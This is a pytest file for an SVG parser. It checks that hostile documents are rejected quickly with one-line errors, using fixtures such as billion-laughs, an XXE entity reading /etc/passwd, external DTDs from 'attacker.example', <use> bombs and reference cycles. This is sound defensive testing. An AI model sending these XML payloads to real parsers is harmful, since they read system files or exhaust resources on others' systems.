"""Hostile inputs: each is refused with a one-line SVGError, fast."""

import time

import numpy as np
import pytest

from gfx.svg.core.document import SVGError
from gfx.svg.core.normalize import normalize
from gfx.svg.core.parse import ParseLimits, load_svg, parse_svg
from gfx.svg.core.serialize import to_svg

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">
<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/></svg>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""

UNDEFINED_ENTITY_WITH_W3C_DTD = """<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/>&ext;</svg>"""


def _deep_groups(depth: int) -> str:
    return '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * depth + "</g>" * depth + "</svg>"


def _use_bomb(levels: int, fan: int = 10, href: str = "xlink:href") -> str:
    """Each group draws the one below it `fan` times: fan**(levels - 1) paths once expanded."""
    groups = "".join(f'<g id="l{i}">' + f'<use {href}="#l{i - 1}"/>' * fan + "</g>" for i in range(1, levels))
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24">'
        f'<defs><path id="l0" d="M0 0L1 1"/>{groups}</defs><use {href}="#l{levels - 1}"/></svg>'
    )


USE_CYCLE = (
    '<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><g id="b"><use href="#c"/></g></g>'
    '<g id="c"><use href="#a"/></g></svg>'
)


def _many_commands(n: int, implicit: bool) -> str:
    body = "M0 0" + (" 1 1" * n if implicit else "L1 1" * n)
    return f'<svg xmlns="http://www.w3.org/2000/svg"><path d="{body}"/></svg>'


HOSTILE = {
    "billion laughs": (BILLION_LAUGHS, "internal subset"),
    "external entity": (EXTERNAL_ENTITY, "internal subset"),
    "external dtd": (EXTERNAL_DTD, "external DTD 'http://attacker.example/evil.dtd'"),
    "parameter entity": (PARAMETER_ENTITY, "internal subset"),
    "undefined entity": (UNDEFINED_ENTITY_WITH_W3C_DTD, "undefined entity &ext;"),
    "1000-deep groups": (_deep_groups(1000), "nests elements 65 deep; the limit is 64 (max_depth)"),
    "1e6 path commands": (
        _many_commands(10**6, False),
        "has at least 1000001 path commands; the limit is 20000 (max_commands)",
    ),
    "1e6 implicit commands": (
        _many_commands(10**6, True),
        "has at least 20001 path commands; the limit is 20000 (max_commands)",
    ),
    "<use> bomb (1e9 paths)": (
        _use_bomb(10),
        "has more than 100000 elements once <use>, clip-path and mask references are expanded; the limit is 100000"
        " (max_expanded_elements)",
    ),
    "<use> bomb, SVG 2 href": (_use_bomb(10, href="href"), "(max_expanded_elements)"),
    "<use> cycle": (USE_CYCLE, "has a reference cycle: an element that draws itself through <use>"),
    "nan in path": (
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0Lnan 1"/></svg>',
        "has 'nan 1' at offset 5 where a number for L is expected",
    ),
    "inf in path": ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1e999 1"/></svg>', "not finite"),
    "inf in attribute": (
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1e999"/></svg>',
        "'1e999', which is not finite",
    ),
    "nan in attribute": (
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="NaN"/></svg>',
        "'NaN' is not a length",
    ),
    "nan in transform": (
        '<svg xmlns="http://www.w3.org/2000/svg"><g transform="scale(nan)"/></svg>',
        "where a number is expected",
    ),
    "inf in viewBox": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e400 1"/>', "not finite"),
    "non-svg xml": (
        '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        "is not SVG: its root element is <{http://www.w3.org/1999/xhtml}html>",
    ),
    "svg in another namespace": ('<svg xmlns="urn:not-svg"/>', "is not SVG"),
    "binary junk": (bytes(range(256)) * 4, "is not well-formed XML"),
    "lone surrogate": ("<svg>\ud800</svg>", "cannot be decoded"),
    "unknown encoding": (
        b"<?xml version='1.0' encoding='klingon'?><svg/>",
        "cannot be decoded: unknown encoding",
    ),
    "undeclared prefix": ('<svg xmlns="http://www.w3.org/2000/svg"><x:g/></svg>', "unbound prefix"),
    "empty": ("", "is empty"),
    "whitespace only": (b"  \n\t ", "is empty"),
    "truncated": (
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"',
        "is not well-formed XML: unclosed token",
    ),
    "unclosed": ('<svg xmlns="http://www.w3.org/2000/svg"><g>', "no element found"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_is_refused_fast(name):
    data, expected = HOSTILE[name]
    start = time.perf_counter()
    with pytest.raises(SVGError) as info:
        parse_svg(data, source="icon.svg")
    elapsed = time.perf_counter() - start
    message = str(info.value)
    assert expected in message
    assert message.startswith("icon.svg")
    assert "\n" not in message
    assert elapsed < 1.0, f"{name} took {elapsed:.2f} s"


def test_50_megabyte_file_is_refused_before_parsing(tmp_path):
    path = tmp_path / "huge.svg"
    with open(path, "wb") as f:
        f.write(b'<svg xmlns="http://www.w3.org/2000/svg">')
        f.write(b" " * (50 * 2**20))
        f.write(b"</svg>")
    size = path.stat().st_size
    start = time.perf_counter()
    with pytest.raises(SVGError, match=rf"huge.svg is {size} bytes; the limit is 10000000 \(max_bytes\)"):
        load_svg(path)
    data = path.read_bytes()
    with pytest.raises(SVGError, match=r"the limit is 10000000 \(max_bytes\)"):
        parse_svg(data)
    assert time.perf_counter() - start < 1.0


def test_limits_are_configurable():
    doc = (
        '<svg xmlns="http://www.w3.org/2000/svg"><g><g><path d="M0 0L1 1L2 2"/></g></g><circle r="1"/></svg>'
    )
    assert len(parse_svg(doc).elements) == 2
    with pytest.raises(SVGError, match=r"<svg> nests elements 3 deep; the limit is 2 \(max_depth\)"):
        parse_svg(doc, limits=ParseLimits(max_depth=2))
    with pytest.raises(SVGError, match=r"more than 4 elements; the limit is 4 \(max_elements\)"):
        parse_svg(doc, limits=ParseLimits(max_elements=4))
    with pytest.raises(SVGError, match=r"has at least 3 path commands; the limit is 2 \(max_commands\)"):
        parse_svg(doc, limits=ParseLimits(max_commands=2))
    with pytest.raises(SVGError, match=r"the limit is 50 \(max_bytes\)"):
        parse_svg(doc, limits=ParseLimits(max_bytes=50))


def test_use_expansion_is_counted_and_its_limit_configurable():
    small = _use_bomb(3)  # svg, defs, 1 + 21 + 221 defined, 1 + 221 drawn: 467 elements once expanded
    assert len(parse_svg(small).elements) == 100  # the last <use> draws 10 x 10 copies of the path
    parse_svg(small, limits=ParseLimits(max_expanded_elements=467))
    with pytest.raises(SVGError, match=r"more than 466 elements once <use>, clip-path and mask references are expanded"):
        parse_svg(small, limits=ParseLimits(max_expanded_elements=466))
    missing = '<svg xmlns="http://www.w3.org/2000/svg"><use href="#nowhere"/><use href="other.svg#a"/></svg>'
    parse_svg(missing, limits=ParseLimits(max_expanded_elements=3))


def test_rendering_untrusted_text_refuses_a_use_bomb_before_cairosvg_sees_it():
    from gfx.svg.core.render import render

    start = time.perf_counter()
    with pytest.raises(SVGError, match=r"^bomb.svg has more than 100000 elements .*\(max_expanded_elements\)$"):
        render(_use_bomb(10), 32, source="bomb.svg")
    assert time.perf_counter() - start < 5.0  # cairosvg itself would spend 15-60 s before giving up


def test_command_budget_is_shared_by_the_whole_document():
    paths = '<path d="M0 0L1 1"/>' * 6  # 12 commands in all
    doc = f'<svg xmlns="http://www.w3.org/2000/svg">{paths}<polyline points="0,0 1,1 2,2"/></svg>'
    assert len(parse_svg(doc, limits=ParseLimits(max_commands=15)).elements) == 7
    with pytest.raises(SVGError, match=r"has at least 15 path commands; the limit is 14 \(max_commands\)"):
        parse_svg(doc, limits=ParseLimits(max_commands=14))
    with pytest.raises(SVGError, match=r"has at least 12 path commands; the limit is 10 \(max_commands\)"):
        parse_svg(doc, limits=ParseLimits(max_commands=10))


def test_huge_polyline_is_refused_fast():
    points = " ".join(["1,2"] * 10**6)
    start = time.perf_counter()
    with pytest.raises(SVGError, match=r"the limit is 20000 \(max_commands\)"):
        parse_svg(f'<svg xmlns="http://www.w3.org/2000/svg"><polygon points="{points}"/></svg>')
    assert time.perf_counter() - start < 1.0


@pytest.mark.parametrize(
    "text",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="' + " " * 2_000_000 + 'x"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0' + "," * 2_000_000 + '"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g transform="' + "scale(" * 200_000 + '"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g style="' + "/*" * 1_000_000 + '"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M' + "1" * 2_000_000 + 'e"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1' + " " * 2_000_000 + 'x"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0" fill="rgb(' + "1 " * 1_000_000 + '"/></svg>',
    ],
    ids=["spaces", "commas", "open-parens", "open-comments", "long-number", "spaced-length", "long-colour"],
)
def test_pathological_text_never_hangs(text):
    start = time.perf_counter()
    try:
        parse_svg(text)
    except SVGError as err:
        assert "\n" not in str(err)
    assert time.perf_counter() - start < 1.0


def test_huge_coordinates_are_refused():
    text = '<svg xmlns="http://www.w3.org/2000/svg"><g transform="scale(1e10)"><circle r="1e10"/></g></svg>'
    with pytest.raises(
        SVGError, match=r"a.svg: a <circle> has coordinates beyond 1e\+15 after its transform"
    ):
        parse_svg(text, source="a.svg")
    text = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1e300"/></svg>'
    with pytest.raises(
        SVGError, match=r"a.svg: <circle> r has the number '1e300', beyond the largest magnitude"
    ):
        parse_svg(text, source="a.svg")
    with pytest.raises(SVGError, match=r"<path> d has a coordinate that is not finite or beyond 1e\+15"):
        parse_svg('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0l1e15 0 1e15 0"/></svg>')


def test_the_w3c_doctype_is_accepted_without_fetching():
    text = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0L1 1"/></svg>"""
    assert parse_svg(text).view_box == (0, 0, 10, 10)


def _random_svg(rng) -> str:
    """A random document mixing valid and broken numbers, commands, transforms and styles."""

    def num() -> str:
        if rng.random() < 0.1:
            return str(rng.choice(["0", "-0", ".5", "1e-300", "1e14", "1.5.5", "00", "01", "1e5"]))
        return f"{rng.uniform(-30, 30):.{rng.integers(0, 4)}f}"

    def path_data() -> str:
        out = [f"M{num()} {num()}"] if rng.random() < 0.9 else []
        for _ in range(rng.integers(0, 10)):
            cmd = str(rng.choice(list("MmLlHhVvCcSsQqTtAaZz")))
            args = [
                num()
                for _ in range(
                    {"M": 2, "L": 2, "H": 1, "V": 1, "C": 6, "S": 4, "Q": 4, "T": 2, "A": 7, "Z": 0}[
                        cmd.upper()
                    ]
                )
            ]
            if cmd in "Aa":
                args[3], args[4] = str(rng.integers(0, 2)), str(rng.integers(0, 2))
            out.append(cmd + " ".join(args))
        return "".join(out)

    def attrs() -> str:
        options = {
            "fill": ["none", "red", "#abc", "currentColor", "rgb(1,2,3)", "url(#g)"],
            "stroke": ["none", "blue", "#000"],
            "stroke-width": ["0", "1", "2.5", "5%"],
            "opacity": ["0", ".5", "1"],
            "stroke-linecap": ["butt", "round", "square"],
            "fill-rule": ["evenodd", "nonzero"],
            "transform": [
                f"rotate({num()} {num()} {num()})",
                f"scale({num()} {num()})",
                f"skewX({num()})",
                f"matrix({' '.join(num() for _ in range(6))})",
                f"translate({num()})",
            ],
        }
        return " ".join(f'{k}="{rng.choice(v)}"' for k, v in options.items() if rng.random() < 0.3)

    def element(depth: int) -> str:
        kind = rng.choice(["path", "path", "rect", "circle", "ellipse", "line", "polyline", "polygon", "g"])
        if kind == "g" and depth < 3:
            return f"<g {attrs()}>" + "".join(element(depth + 1) for _ in range(rng.integers(0, 3))) + "</g>"
        geometry = {
            "path": f'd="{path_data()}"',
            "rect": f'x="{num()}" y="{num()}" width="{num()}" height="{num()}" rx="{num()}"',
            "circle": f'cx="{num()}" cy="{num()}" r="{num()}"',
            "ellipse": f'cx="{num()}" cy="{num()}" rx="{num()}" ry="{num()}"',
            "line": f'x1="{num()}" y1="{num()}" x2="{num()}" y2="{num()}"',
        }.get(kind, f'points="{" ".join(num() for _ in range(2 * rng.integers(0, 5)))}"')
        return f"<{'path' if kind == 'g' else kind} {geometry} {attrs()}/>"

    view_box = rng.choice(['viewBox="0 0 24 24"', 'viewBox="-5 -5 40 20"', 'width="50" height="80"', ""])
    body = "".join(element(0) for _ in range(rng.integers(1, 5)))
    return f'<svg xmlns="http://www.w3.org/2000/svg" {view_box}>{body}</svg>'


def test_random_documents_parse_or_fail_cleanly_and_normalize_idempotently():
    rng = np.random.default_rng(7)
    parsed = 0
    for _ in range(300):
        text = _random_svg(rng)
        try:
            doc = parse_svg(text)
        except SVGError as err:
            assert "\n" not in str(err)
            continue
        parsed += 1
        for options in ({}, {"to_paths": False}, {"drop_invisible": False, "order": "document"}):
            once = normalize(doc, **options)
            assert normalize(once, **options) == once, text
            back = parse_svg(to_svg(once, decimals=6))
            assert len(back.elements) == len(once.elements)
    assert parsed > 150


# ------------------------------------------------------------------------------ paint servers, clip, mask


def _svg(body: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">{body}</svg>'


@pytest.mark.parametrize(
    "body",
    [
        '<mask id="m"><rect width="5" height="5" fill="#fff" mask="url(#m)"/></mask>'
        '<rect width="9" height="9" mask="url(#m)"/>',
        '<clipPath id="c" clip-path="url(#c)"><rect width="5" height="5"/></clipPath>'
        '<rect width="9" height="9" clip-path="url(#c)"/>',
        '<g id="a" mask="url(#m)"><rect width="9" height="9"/></g><mask id="m"><use href="#a"/></mask>',
        '<g id="a" style="clip-path: url(#c)"><rect width="9" height="9"/></g><clipPath id="c"><use href="#a"/>'
        "</clipPath>",
    ],
)
def test_clip_paths_and_masks_that_reference_themselves_are_refused(body):
    with pytest.raises(SVGError, match=r"^loop.svg has a reference cycle: .* through <use>, clip-path or mask"):
        parse_svg(_svg(body), source="loop.svg")


def test_a_mask_drawn_many_times_counts_every_copy():
    mask = '<mask id="m" maskUnits="userSpaceOnUse">' + '<circle r="1" fill="#fff"/>' * 400 + "</mask>"
    users = "".join(f'<rect transform="translate({i} 0)" width="9" height="9" mask="url(#m)"/>' for i in range(600))
    start = time.perf_counter()
    with pytest.raises(SVGError, match=r"more than 100000 elements once <use>, clip-path and mask references"):
        parse_svg(_svg(mask + users))
    assert time.perf_counter() - start < 1.0  # counted on the tree, before anything is built
    shared = "".join('<rect width="9" height="9" mask="url(#m)"/>' for _ in range(100))  # one user space
    start = time.perf_counter()
    doc = parse_svg(_svg(mask + shared))
    assert len(doc.elements) == 100 and len({id(e.style.mask[0]) for e in doc.elements}) == 1  # built once
    assert time.perf_counter() - start < 5.0


def test_a_gradient_with_too_many_stops_is_refused():
    stops = '<stop offset="0"/>' * 30_000
    body = f'<linearGradient id="g">{stops}</linearGradient><rect width="9" height="9" fill="url(#g)"/>'
    with pytest.raises(SVGError, match=r"path commands and gradient stops; the limit is 20000 \(max_commands\)"):
        parse_svg(_svg(body))


def test_a_long_use_chain_is_refused_before_python_runs_out_of_stack():
    chain = '<path id="g0" d="M0 0H1V1Z"/>' + "".join(f'<g id="g{i}"><use href="#g{i - 1}"/></g>' for i in range(1, 200))
    with pytest.raises(SVGError, match=r"nests elements more than 128 deep once <use>, clip-path and mask references"):
        parse_svg(_svg(f"<defs>{chain}</defs><use href='#g199'/>"))
